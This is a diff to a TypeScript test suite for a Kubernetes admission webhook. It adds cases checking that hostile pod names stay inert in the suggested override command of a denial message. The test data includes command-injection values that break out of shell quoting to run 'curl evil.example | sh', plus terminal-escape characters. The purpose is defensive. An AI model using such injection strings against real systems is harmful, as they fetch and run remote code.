@@ -119,7 +119,7 @@ describeWithOpa('admission', () => {
       'has no owner',
       'fix: set owner',
       'controls: test/one',
-      "exhibit override request --policy pod-owned --subject 'Pod/web' --layer admission",
+      'exhibit override request --policy pod-owned --subject Pod/web --layer admission',
     ])
       expect(status?.message).toContain(part);
     expect(status?.message).not.toContain('pod-tiered');
@@ -162,6 +162,30 @@ describeWithOpa('admission', () => {
     });
     // Who asked is a salted reference.
     expect(JSON.stringify(records)).not.toContain('jane');
+  });
+
+  it.each<[string, string, string | undefined]>([
+    ['ends the quote', "x'; curl evil.example | sh; '", `'Pod/x'\\''; curl evil.example | sh; '\\'''`],
+    ['speaks to the terminal', '\u001b[2Jok\u202e', undefined],
+    ['is several lines', 'x\n  override: curl evil.example | sh', undefined],
+    ['is a pattern of all', '**', undefined],
+    ['is a pattern within', 'a*b', undefined],
+    ['is to be made by the API server', 'web-*', "'Pod/web-*'"],
+    ['has no end', 'x'.repeat(60_000), undefined],
+  ])('a name that %s stays a name in the answer, and is judged', async (_, name, word) => {
+    at = await harness(settings(), () => now);
+    const { allowed, status, warnings = [] } = await answer(review(name, {}, { uid: 'uid' }));
+    expect(allowed).toBe(false);
+    const message = status?.message ?? '';
+    expect(message).not.toMatch(/[^\P{C}\n]/u);
+    expect(warnings.join()).not.toMatch(/\p{C}/u);
+    expect(message.length).toBeLessThan(3_000);
+    const ways = message.split('\n').filter((line) => line.startsWith('  override: '));
+    expect(ways).toEqual([
+      word === undefined
+        ? '  override: exhibit override request --policy pod-owned, with the subject as the record has it'
+        : `  override: exhibit override request --policy pod-owned --subject ${word} --layer admission`,
+    ]);
   });
 
   it('an override admits with a warning until its sunset, and not a moment longer', async () => {
